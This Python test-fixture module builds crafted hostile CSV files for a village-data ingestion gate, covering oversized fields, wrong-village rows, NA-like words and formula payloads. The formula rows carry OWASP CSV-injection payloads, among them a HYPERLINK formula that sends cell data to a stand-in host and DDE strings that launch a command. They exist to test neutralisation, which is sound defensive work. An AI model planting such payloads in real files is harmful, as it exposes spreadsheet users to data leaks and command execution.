"""Crafted hostile files: gate (issue #12, items 2, 4, 6, 7). build(out) writes them and returns their paths.

Each file is a small village CSV (UTF-8, canonical header, real village codes, valid NIKs) meant
for the folder ``<PERIOD>/<FILES[name]>/``; tests/hostile/test_gate.py runs each through ingest,
validate-and-load and publish and says what must come out.

- ``gate_alamat_40000.csv``: row 2 valid; row 3 an ``alamat`` of 40,000 characters (item 2).
- ``gate_desa_lain.csv``: row 2 valid; rows 3 and 4 name another village of the same kecamatan,
  dotted and plain (item 4). The file is not rejected whole (a row names the folder's village).
- ``gate_formula.csv``: formula payloads (item 6) in ``nama``, ``alamat``, ``pekerjaan``,
  ``petugas``, ``no_hp`` (rows 2-5, all layak, in every program), a name that starts with ``'``
  (row 6), and payloads in columns that fail a rule so they are echoed in the feedback (row 7:
  ``desil``; row 8: ``pendapatan_bulanan`` ``-5000``; row 9: ``memiliki_usaha``, a warning).
- ``gate_na_words.csv``: the words ``NA``, ``N/A``, ``NULL``, ``nan``, ``#N/A``, ``null`` as text in
  text columns (item 7), and a row with those columns empty (real NULLs).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from tests.helpers import village_row
from verfak.columns import COLUMNS

PERIOD = "2024-06"
VILLAGE = "32.16.01.2001"  # Sagara Makmur, Tarumajaya
SAME_KECAMATAN = "32.16.01.2002"  # Segarajaya, Tarumajaya
BIRTH = dt.date(1984, 3, 14)  # 40 at the period: in every program's age range

LONG_ALAMAT = ("Kp. Sukamaju " * 3077)[:40_000]

# Payloads of the OWASP CSV-injection cheat sheet, one per leading character.
HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
PHONE_PLUS_62 = "+62 812-3456-7890"  # staging writes +62 as 0: 081234567890
PHONE_PLUS_1 = "+1 555 0100"  # not Indonesian: kept as +15550100, neutralised in CSV

NA_WORDS = ("NA", "N/A", "NULL", "nan", "#N/A", "null")


def _rows_alamat() -> list[dict]:
    return [
        village_row(PERIOD, VILLAGE, 1, BIRTH),
        village_row(PERIOD, VILLAGE, 2, BIRTH, alamat=LONG_ALAMAT),
    ]


def _rows_desa_lain() -> list[dict]:
    return [
        village_row(PERIOD, VILLAGE, 11, BIRTH),
        {**village_row(PERIOD, VILLAGE, 12, BIRTH), "kode_desa": SAME_KECAMATAN},
        {**village_row(PERIOD, VILLAGE, 13, BIRTH), "kode_desa": SAME_KECAMATAN.replace(".", "")},
    ]


def _rows_formula() -> list[dict]:
    everywhere = {"minat_pelatihan": "menjahit", "memiliki_usaha": "ya", "minat_usaha": "warung"}
    return [
        village_row(PERIOD, VILLAGE, 21, BIRTH, nama=HYPERLINK, **everywhere),
        village_row(PERIOD, VILLAGE, 22, BIRTH, alamat=CMD, no_hp=PHONE_PLUS_62, **everywhere),
        village_row(PERIOD, VILLAGE, 23, BIRTH, pekerjaan=SUM, no_hp=PHONE_PLUS_1, **everywhere),
        village_row(
            PERIOD, VILLAGE, 24, BIRTH, petugas=MINUS, rt="-", **{**everywhere, "minat_usaha": MINUS}
        ),
        village_row(PERIOD, VILLAGE, 25, BIRTH, nama="'Ahmad", **everywhere),
        village_row(PERIOD, VILLAGE, 26, BIRTH, desil=HYPERLINK),
        village_row(PERIOD, VILLAGE, 27, BIRTH, pendapatan_bulanan="-5000"),
        village_row(PERIOD, VILLAGE, 28, BIRTH, memiliki_usaha=SUM),
    ]


def _rows_na_words() -> list[dict]:
    everywhere = {"minat_pelatihan": "menjahit", "memiliki_usaha": "ya"}
    na = dict(zip(("hubungan_keluarga", "alamat", "pekerjaan", "pendidikan", "minat_usaha", "rw"), NA_WORDS))
    return [
        village_row(PERIOD, VILLAGE, 31, BIRTH, nama="NA", rt="N/A", **na, **everywhere),
        village_row(
            PERIOD,
            VILLAGE,
            32,
            BIRTH,
            hubungan_keluarga="",
            pekerjaan="",
            pendidikan="",
            minat_usaha="",
            rt="",
            rw="",
            **everywhere,
        ),
    ]


#: file name -> the village folder it is sent in (period PERIOD)
FILES: dict[str, str] = {
    "gate_alamat_40000.csv": VILLAGE,
    "gate_desa_lain.csv": VILLAGE,
    "gate_formula.csv": VILLAGE,
    "gate_na_words.csv": VILLAGE,
}
_ROWS = {
    "gate_alamat_40000.csv": _rows_alamat,
    "gate_desa_lain.csv": _rows_desa_lain,
    "gate_formula.csv": _rows_formula,
    "gate_na_words.csv": _rows_na_words,
}


def rows(name: str) -> list[dict]:
    """The rows of a crafted file, as written (row 2 of the file is the first)."""
    return _ROWS[name]()


def _csv_bytes(data: list[dict]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(data)
    return buffer.getvalue().encode("utf-8")


def build(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name in FILES:
        path = out / name
        path.write_bytes(_csv_bytes(rows(name)))
        written.append(path)
    return written
